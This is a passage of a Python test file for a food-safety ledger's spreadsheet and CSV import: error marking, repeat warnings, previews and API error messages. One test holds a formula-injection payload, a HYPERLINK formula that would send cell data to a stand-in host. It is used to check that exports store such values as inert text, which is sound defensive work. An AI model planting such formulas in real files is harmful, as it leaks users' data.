            expected[(row, cols[j - 1].header_zh)] = words
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue(), expected


def _position(kind: RecordKind, header: str) -> int:
    return next(j for j, c in enumerate(columns(kind)) if c.header_zh == header)


@pytest.mark.parametrize("seed", [1, 2, 3])
def test_a_file_with_n_mistakes_gets_exactly_n_errors_and_each_cell_is_marked(
    engine, clock, seed
) -> None:
    lid = f.beverage_ledger(engine, clock)
    content, expected = _mistaken_sales(seed)
    before = snapshot(engine)
    result = do_import(engine, clock, lid, RecordKind.SALE, "s.xlsx", content, dry_run=True)
    assert errors_of(result) == sorted(
        expected, key=lambda c: (c[0], _position(RecordKind.SALE, c[1]))
    )
    for e in result.errors:
        assert expected[(e.row, e.column)] in (e.message_zh or ""), e
        assert e.key
        assert e.message
    assert (result.written, result.checked) == (0, 12 - len({r for r, _ in expected}))
    assert snapshot(engine) == before

    marks = [imports.Mark(e.row, e.column, f"{e.row}:{e.key}") for e in result.errors]
    marked = load_workbook(io.BytesIO(imports.marked_xlsx("sale", "s.xlsx", content, marks)))
    sheet, listing = marked.worksheets
    found = {
        (c.row, sheet.cell(row=1, column=c.column).value): c.comment.text
        for line in sheet.iter_rows()
        for c in line
        if c.comment is not None
    }
    assert found == {(e.row, e.column): f"{e.row}:{e.key}" for e in result.errors}
    filled = {
        (c.row, sheet.cell(row=1, column=c.column).value)
        for line in sheet.iter_rows()
        for c in line
        if c.fill.fgColor.rgb.endswith(imports.ERROR_FILL)
    }
    assert filled == set(expected)
    assert listing.max_row == len(expected) + 1
    # the marked copy, fixed, is the file: it reads as the upload did
    again = parse(
        RecordKind.SALE, "marked.xlsx", imports.marked_xlsx("sale", "s.xlsx", content, marks)
    )
    assert errors_of(again) == errors_of(parse(RecordKind.SALE, "s.xlsx", content))


def test_three_mistakes_in_one_row_and_a_licence_required_when_checked(engine, clock) -> None:
    lid = f.register(engine, clock)
    f.add(engine, clock, lid, "supplier", f.supplier())
    checks = [
        f.material_check(),
        f.material_check(material_lot="ML-2", supplier_code="NOBODY", quantity="lots"),
    ]
    del checks[1]["supplier_licence_no"]  # 已查验许可证 是, and no number
    content = csv_file(RecordKind.MATERIAL_CHECK, checks)
    result = do_import(
        engine, clock, lid, RecordKind.MATERIAL_CHECK, "m.csv", content, dry_run=True
    )
    assert errors_of(result) == [(3, "数量"), (3, "供应商编码"), (3, "供应商许可证编号")]
    licence = result.errors[2]
    assert licence.message_zh == "“已查验许可证”为“是”时必填：请填写查验过的许可证编号"
    assert licence.message_en.startswith("required when 已查验许可证 is 是")
    assert result.errors[1].message_en == "unknown supplier 'NOBODY': register it first"


def test_a_file_imported_again_warns_on_every_row_and_may_still_be_imported(engine, clock) -> None:
    lid = f.beverage_ledger(engine, clock)
    start = datetime(2026, 3, 1, 9, 0, tzinfo=CST)
    readings = [
        f.ccp_record(
            value=str(86 + i % 3), measured_at=(start + timedelta(minutes=20 * i)).isoformat()
        )
        for i in range(6)
    ]
    content = records_file(RecordKind.CCP_RECORD, readings, keep_example=False)
    first = do_import(engine, clock, lid, RecordKind.CCP_RECORD, "c.xlsx", content)
    assert (first.errors, first.warnings, first.written) == ([], [], 6)
    assert first.counts == {"ccp_record": 6}
    again = do_import(engine, clock, lid, RecordKind.CCP_RECORD, "c.xlsx", content, dry_run=True)
    assert again.errors == []
    assert [(w.row, w.type) for w in again.warnings] == [(r, "repeat") for r in range(2, 8)]
    assert [w.ctx["seq"] for w in again.warnings] == list(
        range(first.first_seq, first.last_seq + 1)
    )
    assert "生产批号、监控参数、监控时间、测量值相同" in again.warnings[0].message_zh
    # a reading at another time, or of another value, is no repeat; a row twice in a file is
    other = [
        {**readings[0], "value": "90"},
        {**readings[1], "measured_at": (start + timedelta(minutes=5)).isoformat()},
        {**readings[1], "measured_at": (start + timedelta(minutes=5)).isoformat()},
    ]
    content = records_file(RecordKind.CCP_RECORD, other, keep_example=False)
    mixed = do_import(engine, clock, lid, RecordKind.CCP_RECORD, "c.xlsx", content)
    assert [(w.row, w.type, w.ctx) for w in mixed.warnings] == [(4, "repeat_in_file", {"row": 3})]
    assert mixed.written == 3  # warnings do not stop the import

    sales = [f.sale(quantity="1", document_no=f"CK-{i}") for i in range(4)]
    content = records_file(RecordKind.SALE, sales, keep_example=False)
    assert do_import(engine, clock, lid, RecordKind.SALE, "s.xlsx", content).warnings == []
    again = do_import(engine, clock, lid, RecordKind.SALE, "s.xlsx", content, dry_run=True)
    assert [(w.row, w.column, w.type) for w in again.warnings] == [
        (r, "单据号", "repeat") for r in range(2, 6)
    ]


def test_the_check_previews_what_it_writes(engine, clock) -> None:
    lid = f.beverage_ledger(engine, clock)
    sales = [f.sale(quantity=str(i + 1), document_no=f"CK-{i}") for i in range(14)]
    content = records_file(RecordKind.SALE, sales)  # the example row is kept, and skipped
    result = do_import(engine, clock, lid, RecordKind.SALE, "s.xlsx", content, dry_run=True)
    assert result.counts == {"sale": 14}
    assert result.headers[:5] == ["生产批号", "数量", "单位", "销售日期", "客户编码"]
    assert len(result.preview) == imports.PREVIEW_ROWS
    assert result.preview[0] == (
        3,
        ["PJ20260301A", "1", "箱", "2026-03-01", "DIST01", "CK-0", "", ""],
    )


def test_the_api_lists_every_problem_with_its_field_and_both_messages(client, engine, clock):
    f.beverage_ledger(engine, clock)
    with write_session(engine) as s:
        add_user(
            session=s,
            username="a_op",
            password=PASSWORD,
            role=Role.ENTERPRISE_USER,
            now=clock.now(),
            enterprise_credit_code=f.BEVERAGE,
        )
    h = login(client)
    sales = [f.sale(), f.sale(customer_code="NOBODY", quantity="x", unit="吨")]
    content = csv_file(RecordKind.SALE, sales)
    r = upload(client, h, RecordKind.SALE, content, dry_run=False, name="s.csv")
    assert r.status_code == 422, r.text
    body = r.json()
    assert body["written"] == 0
    assert body["error_count"] == 3 == len(body["errors"])
    by_field = {e["field"]: e for e in body["errors"]}
    assert set(by_field) == {"quantity", "unit", "customer_code"}
    assert {e["row"] for e in body["errors"]} == {3}
    assert by_field["customer_code"]["column"] == "客户编码"
    assert by_field["customer_code"]["message_en"] == "unknown customer 'NOBODY': register it first"
    assert by_field["unit"]["message_zh"].startswith("单位不符")
    assert all(e["message_zh"] and e["message_en"] for e in body["errors"])


def test_a_csv_comes_back_marked_as_xlsx_and_stays_text(engine, clock) -> None:
    lid = f.beverage_ledger(engine, clock)
    hostile = '=HYPERLINK("http://x.example/?"&A1,"click")'
    sales = [f.sale(notes=hostile), f.sale(customer_code="NOBODY", notes="@SUM(1+1)")]
    content = csv_file(RecordKind.SALE, sales)
    result = do_import(engine, clock, lid, RecordKind.SALE, "s.csv", content, dry_run=True)
    assert errors_of(result) == [(3, "客户编码")]
    marks = [imports.Mark(e.row, e.column, e.message_zh) for e in result.errors]
    body = imports.marked_xlsx("sale", "s.csv", content, marks)
    with zipfile.ZipFile(io.BytesIO(body)) as zf:
        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets
        assert not any(b"<f>" in zf.read(n) or b"<f " in zf.read(n) for n in sheets)
    ws = load_workbook(io.BytesIO(body)).worksheets[0]
    notes = _position(RecordKind.SALE, "备注") + 1
    assert ws.cell(row=2, column=notes).value == hostile
    assert ws.cell(row=2, column=notes).data_type == "s"
    assert ws.cell(row=2, column=notes).quotePrefix
    assert ws.cell(row=3, column=_position(RecordKind.SALE, "客户编码") + 1).comment.text == (
        "客户“NOBODY”不存在：请先在客户名录中登记该客户"
    )
